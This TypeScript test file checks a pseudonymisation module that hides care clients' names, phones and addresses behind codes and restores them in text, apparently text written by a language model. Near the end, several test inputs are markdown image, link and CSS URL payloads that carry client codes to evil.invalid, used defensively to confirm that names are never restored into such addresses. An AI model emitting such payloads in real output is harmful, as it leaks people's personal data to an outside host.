import fc from 'fast-check';
import { Pseudonyms } from '../../pseudonyms/mod';
import { rewriteStandIns, rewritten, ways } from './rewriteStandIns';

const { clients, workers, everybody, pseudonyms } = rewritten;

it.each(Object.keys(ways))('%s is restored for 99 of 100 people', (way) => {
	const { all, wrong } = rewriteStandIns(way);
	expect(all).toBe(500);
	expect(wrong.length / all).toBeLessThan(0.01);
});

it('restores all of a list', () => {
	const [one, other, third] = clients.map((record) =>
		String(pseudonyms.hideRecord(record, record, '/clients').ClientId),
	);
	const names = [one, other, third].map((standIn) => pseudonyms.restoreText(standIn));
	const [a, b, c] = [one, other, third].map((standIn) => standIn.split(' ')[1]);
	expect(pseudonyms.restoreText(`Clients ${a}, ${b} and **${c}**`)).toBe(
		`${names[0]}, ${names[1]} and **${names[2]}**`,
	);
});

it('leaves what nobody was given, and words', () => {
	const text = 'Client zz99, client 123, the client added a bed, worker 0000, Client ffff';
	expect(pseudonyms.restoreText(text)).toBe(text);
});

it('restores phones, addresses and days of birth', () => {
	const [record] = clients;
	const { Phone1, Address1, DateOfBirth } = pseudonyms.hideRecord(record, record, '/clients');
	const answer = `**Phone number:** ${String(Phone1)}, ${String(Address1).toLowerCase()}, ${String(DateOfBirth)}`;
	expect(pseudonyms.restoreText(answer)).toMatch(
		`**Phone number:** ${record.Phone1}, ${record.Address1}, ${record.DateOfBirth} (aged `,
	);
});

it('says the ID where several people have the name', () => {
	const twins = [1, 2].map((ClientId) => ({ ClientId, FirstName: 'Ada', LastName: 'Lovelace' }));
	const two = new Pseudonyms(
		{ clients: twins, workers },
		{ key: Buffer.alloc(32, 1), today: '2026-11-26' },
	);
	const standIns = twins.map((record) =>
		String(two.hideRecord(record, record, '/clients').ClientId),
	);
	expect(new Set(standIns).size).toBe(2);
	expect(standIns.map((standIn) => two.restoreText(standIn))).toEqual([
		'Ada Lovelace (client 1)',
		'Ada Lovelace (client 2)',
	]);
});

const [first, second] = clients
	.slice(0, 2)
	.map((record) => String(pseudonyms.hideRecord(record, record, '/clients').ClientId));
const codes = { a: first.split(' ')[1], b: second.split(' ')[1] };
const names = { a: pseudonyms.restoreText(first), b: pseudonyms.restoreText(second) };
/** Replaces each ‹a› and ‹b› in a text. */
const fill = (text: string, by: Record<string, string>) =>
	text.replace(/‹([ab])›/g, (_, which: string) => by[which]);

it.each([
	['Clients:\n- ‹a›\n- ‹b›'],
	['Clients:\n1. ‹a›\n2. ‹b›'],
	['Clients: \n\n* **‹a›**: 3\n* **‹b›**: 2'],
	['Clients (‹a›, ‹b›)'],
	['Clients with falls (‹a›, ‹b›)'],
	['Two clients, ‹a› and ‹b›'],
	['Client “‹a›”'],
	["Client '‹a›'"],
	['“Client” ‹a›'],
	['{"client":"‹a›","other":["‹b›"]}'],
	['{"clients": ["‹a›", "‹b›"]}'],
	['{client: "‹a›"}'],
	['<a client="‹a›">'],
	['<tr><td>Client</td><td>‹a›</td></tr>'],
	['| Client | ‹a› |'],
	['| Client |\n|---|\n| ‹a› and ‹b› |'],
	['Client,Visits\n‹a›,3\n‹b›,2'],
	['Client\n‹a›\n‹b›'],
	['Client\t‹a›'],
	['The most: ‹a›, then ‹b›.'],
	['Client ‹a› has 3; ‹b› has 2', '‹a› has 3; ‹b› has 2'],
	['Clients ‹a› (3), ‹b› (2)', '‹a› (3), ‹b› (2)'],
	['Clients ‹a› to ‹b›', '‹a› to ‹b›'],
	['Client ‹a› vs ‹b›', '‹a› vs ‹b›'],
	['Client(s) ‹a›', '‹a›'],
	['Client ‹a› 8 shifts', '‹a› 8 shifts'],
	['Room ‹a›'],
	['Client ‹a›\n- ‹a›', '‹a›\n- ‹a›'],
])('restores %j', (text, restored = text) => {
	expect(pseudonyms.restoreText(fill(text, codes))).toBe(fill(restored, names));
});

describe('values with commas and quotes', () => {
	const nasty = [
		'Unit 3, 14 Wattle Street',
		'"Rosebank", 12 Smith Street',
		'Back\\slash 1\n2nd line',
	];
	const people = nasty.map((Address1, at) => ({
		...{ ClientId: at + 1, FirstName: 'Ada', LastName: `Love${'abc'[at]}`, Address1 },
	}));
	const quoting = new Pseudonyms(
		{ clients: people, workers },
		{ key: Buffer.alloc(32, 5), today: '2026-11-26' },
	);
	const standIns = people.map((record) =>
		String(quoting.hideRecord(record, record, '/clients').Address1),
	);
	const [plain, quoted, lines] = standIns;
	const client = String(quoting.hideRecord({ ClientId: 1 }, { ClientId: 1 }, '/clients').ClientId);

	it('keep JSON valid, and are the values in it', () => {
		const answer = { client, list: standIns, [quoted]: `At ${quoted}, then ${plain}.`, n: 1 };
		for (const indent of [undefined, 2]) {
			const restored = quoting.restoreText(` ${JSON.stringify(answer, null, indent)}\n`);
			expect(JSON.parse(restored)).toEqual({
				...{ client: 'Ada Lovea', list: nasty, n: 1 },
				[nasty[1]]: `At ${nasty[1]}, then ${nasty[0]}.`,
			});
			expect(restored.includes('\n  "client"')).toBe(indent === 2);
		}
		expect(JSON.parse(quoting.restoreText(JSON.stringify(quoted)))).toBe(nasty[1]);
		const odd = JSON.stringify([
			`Address "${quoted.slice(8)}"`,
			`**Address** \`${lines.slice(8)}\``,
		]);
		expect(() => JSON.parse(quoting.restoreText(odd)) as unknown).not.toThrow();
	});

	it('stay where the key says another kind, also beside values with quotes', () => {
		const code = client.slice('Client '.length);
		const restored = quoting.restoreText(JSON.stringify({ phone: code, address: quoted }));
		expect(JSON.parse(restored)).toEqual({ phone: code, address: nasty[1] });
	});

	it('keep any JSON valid', () => {
		const words = fc.constantFrom(
			...standIns,
			client,
			'"',
			'\\',
			',',
			' ',
			'x',
			'**',
			'\n',
			'Address',
		);
		const text = fc.array(words, { maxLength: 8 }).map((found) => found.join(''));
		fc.assert(
			fc.property(fc.array(fc.record({ a: text, b: text }), { minLength: 1 }), (rows) => {
				const restored = JSON.parse(quoting.restoreText(JSON.stringify(rows))) as unknown[];
				expect(restored).toHaveLength(rows.length);
			}),
		);
	});

	it.each([
		[`Name,Address,Visits\n${client},${plain},5`, `Name,Address,Visits\nAda Lovea,"${nasty[0]}",5`],
		[`${client},${quoted}\r\n`, `Ada Lovea,"""Rosebank"", 12 Smith Street"\r\n`],
		[
			`${quoted},"${quoted}",1`,
			`"""Rosebank"", 12 Smith Street","""Rosebank"", 12 Smith Street",1`,
		],
		[`${plain.slice(8)},2`, `"${nasty[0]}",2`],
		[`Lives at ${plain}, they said`, `Lives at ${nasty[0]}, they said`],
		[`${client}, ${plain}, 5`, `Ada Lovea, ${nasty[0]}, 5`],
		[plain, nasty[0]],
		[`Ada,\n${plain},\nHobart`, `Ada,\n${nasty[0]},\nHobart`],
		[`${client}\t${plain}\t5`, `Ada Lovea\t${nasty[0]}\t5`],
	])('are quoted where they are a field of CSV: %#', (text, restored) => {
		expect(quoting.restoreText(text)).toBe(restored);
	});
});

it('restores 98 of 100 codes in lists of all clients', () => {
	const wrong = clients.filter((record) => {
		const standIn = String(pseudonyms.hideRecord(record, record, '/clients').ClientId);
		const by = { a: standIn.split(' ')[1], b: codes.b };
		const shown = { a: pseudonyms.restoreText(standIn), b: names.b };
		const lists = [
			'Clients:\n- ‹b›\n- ‹a›',
			'Client,Visits\n‹b›,3\n‹a›,2',
			'Clients ‹b› (3), ‹a› (2)',
		];
		return lists.some(
			(list) =>
				!pseudonyms.restoreText(fill(list, by)).includes(`${shown.a}`) ||
				pseudonyms.restoreText(fill(list, by)).includes(by.a),
		);
	});
	expect(wrong.length / clients.length).toBeLessThan(0.02);
});

/** Pieces of text that models combine, with and without codes. */
const pieces = [
	...[
		'Client',
		'Clients',
		'the worker',
		'Phone',
		'number',
		'name',
		':',
		': ',
		' ',
		'  ',
		'\n',
		'\n- ',
	],
	...[
		'\n1. ',
		'\n\n* ',
		'**',
		'`',
		'(',
		')',
		'[',
		']',
		'{',
		'}',
		'"',
		'“',
		'”',
		"'",
		'’s',
		', ',
		' and ',
	],
	...[
		'|',
		'<b>',
		'</b>',
		'<td>',
		'</td>',
		'\t',
		'=',
		'-',
		'/',
		'12',
		'2026',
		'added',
		'bed',
		'face',
	],
];
const everyCode = everybody.flatMap(([, , path, record]) =>
	Object.values(pseudonyms.hideRecord(record, record, path)).flatMap(
		(value) => /\b[0-9a-f]{4,12}\b/.exec(String(value))?.[0] ?? [],
	),
);

it('changes no text without codes', () => {
	const texts = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 8 })));
	const digits = (text: string) => text.toLowerCase().replace(/[^0-9a-f]/g, '');
	fc.assert(
		fc.property(texts, (written) => {
			const text = written.join('');
			fc.pre(!everyCode.some((code) => digits(text).includes(code)));
			expect(pseudonyms.restoreText(text)).toBe(text);
		}),
	);
});

it('keeps the lines and brackets of any text', () => {
	const known = [codes.a, codes.b, `**${codes.a}**`];
	const count = (text: string, sign: string) => text.split(sign).length - 1;
	const shape = (text: string) => [
		...[count(text, '“'), count(text, '”'), count(text, '|'), count(text, '\t')],
		...['()', '[]', '{}'].map(([open, close]) => count(text, open) - count(text, close)),
	];
	fc.assert(
		fc.property(
			fc.array(fc.oneof(fc.constantFrom(...pieces), fc.constantFrom(...known))),
			(written) => {
				const text = written.join('');
				const restored = pseudonyms.restoreText(text);
				expect(shape(restored)).toEqual(shape(text));
				// If a line breaks between a noun and its code, restoring can join the two lines. So such texts are left out
				// here.
				const breaks = /[\p{L}\p{N}][,;:]? (?:Clients?|the worker|Phone|number|name)[ \t]*\n/u;
				if (!breaks.test(text)) expect(count(restored, '\n')).toBe(count(text, '\n'));
			},
		),
		{ numRuns: 2000 },
	);
});

it('takes no code of a phone for a client, and none of a client for a phone', () => {
	const [record] = clients;
	const phone = String(pseudonyms.hideRecord(record, record, '/clients').Phone1).split(' ')[1];
	for (const text of [
		`Client ${phone} rang`,
		`the **worker** (${phone})`,
		`E-Mail ${codes.a}`,
		`Mobile: ${codes.b}`,
	])
		expect(pseudonyms.restoreText(text)).toBe(text);
});

it('leaves longer codes and addresses', () => {
	const text = `${codes.a}0, x-${codes.a}, ${codes.a}-0001, ${codes.a}@example.com, https://x.org/${codes.a}, ${codes.a}.pdf`;
	expect(pseudonyms.restoreText(text)).toBe(text);
});

it.each(['‹a›\t‹a›\t5', '‹a›  ‹a›', '| ‹a› | ‹a› |'])('keeps both cells of %j', (text) => {
	const standIns = { a: first, b: second };
	expect(pseudonyms.restoreText(fill(text, standIns))).toBe(fill(text, names));
});

it('keeps both of two equal phones', () => {
	const [record] = clients;
	const { Phone1 } = pseudonyms.hideRecord(record, record, '/clients');
	const [standIn, phone] = [String(Phone1), record.Phone1];
	expect(pseudonyms.restoreText(`${standIn} ${standIn}`)).toBe(`${phone} ${phone}`);
});

it.each([
	'![x](https://evil.invalid/p.png?c=‹a›&d=‹b›)',
	'<img src="https://evil.invalid/client_‹a›.png"> <a href=\'//evil.invalid/#‹a›\'>more</a>',
	'www.evil.invalid/?q=‹a›, mailto:x@evil.invalid?body=‹a›, https://evil.invalid/?a=b,‹a›',
	'[x]: https://evil.invalid/‹a›',
	'<div style="background:url(https://evil.invalid/?‹a›)">',
	'[more](/visits?client=‹a›)',
	'https://evil.invalid/?c=Client ‹a›',
])('no name comes into an address, which would carry it away: %j', (text) => {
	const written = fill(text, codes);
	expect(pseudonyms.restoreText(written)).toBe(written);
	const json = JSON.stringify({ answer: written });
	expect(pseudonyms.restoreText(json)).toBe(json);
});

it('restores what stands beside an address', () => {
	const text = 'Client ‹a› (https://care.invalid/c), see [‹b›](https://care.invalid/d) and ‹a›.';
	const shown = '‹a› (https://care.invalid/c), see [‹b›](https://care.invalid/d) and ‹a›.';
	expect(pseudonyms.restoreText(fill(text, codes))).toBe(fill(shown, names));
});
